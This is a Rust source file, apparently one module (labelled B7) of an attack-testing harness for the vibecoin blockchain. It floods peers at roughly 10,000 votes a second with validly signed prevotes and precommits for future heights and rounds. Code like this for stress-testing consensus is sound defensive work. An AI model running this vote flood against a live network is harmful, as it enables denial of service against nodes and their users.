//! Excess votes, each validly signed (B7).

use std::io;
use std::sync::Arc;
use std::time::Duration;

use futures_util::future::BoxFuture;
use tokio::sync::OnceCell;
use vibecoin_consensus::ConsensusMessage;
use vibecoin_primitives::{Hash, Height, Round, SecretKey, Vote, VoteKind};
use vibecoin_replica::Message;

use crate::attack::Stage;
use crate::gossip;
use crate::session::Session;

/// Heights ahead of the head that are voted for.
const HEIGHTS: u64 = 40;
/// Rounds of each.
const ROUNDS: u32 = 250;
/// Votes in one frame.
const PER_FRAME: usize = 50;
/// Pause between frames: 10,000 votes a second.
const REST: Duration = Duration::from_millis(5);

/// Frames of votes; made once, when the head is known.
static FRAMES: OnceCell<Vec<Vec<u8>>> = OnceCell::const_new();

/// Sends votes for future heights, endlessly.
pub fn flood<'a>(stage: &'a Arc<Stage>, session: &'a mut Session) -> BoxFuture<'a, io::Result<()>> {
    Box::pin(async move {
        let Some(key) = stage.setting.key.clone() else {
            return Ok(());
        };
        let mut stream = session.gossip().await?;
        let frames = FRAMES
            .get_or_init(|| async {
                let stage = stage.clone();
                let made = tokio::task::spawn_blocking(move || frames(&stage, &key)).await;
                made.unwrap_or_default()
            })
            .await;
        let mut beat = tokio::time::interval(REST);
        for frame in frames.iter().cycle() {
            beat.tick().await;
            session.write(&mut stream, frame, PER_FRAME as u64).await?;
        }
        Ok(())
    })
}

fn frames(stage: &Stage, key: &SecretKey) -> Vec<Vec<u8>> {
    let head = stage.head();
    let vote = |kind, height, round| Vote {
        kind,
        height: Height(height),
        round: Round(round),
        block: Some(Hash([height as u8; 32])),
        validator: key.public_key(),
    };
    let votes: Vec<Vec<u8>> = (0..ROUNDS)
        .flat_map(|round| (head + 1..=head + HEIGHTS).map(move |height| (height, round)))
        .flat_map(|(height, round)| {
            [VoteKind::Prevote, VoteKind::Precommit].map(|kind| vote(kind, height, round))
        })
        .map(|vote| {
            let signed = vote.sign(&stage.setting.genesis, key);
            let message = Message::Consensus(ConsensusMessage::Vote(signed));
            gossip::packed(&stage.envelope, &message, 0)
        })
        .collect();
    votes
        .chunks(PER_FRAME)
        .map(|chunk| gossip::statements(stage, chunk))
        .collect()
}
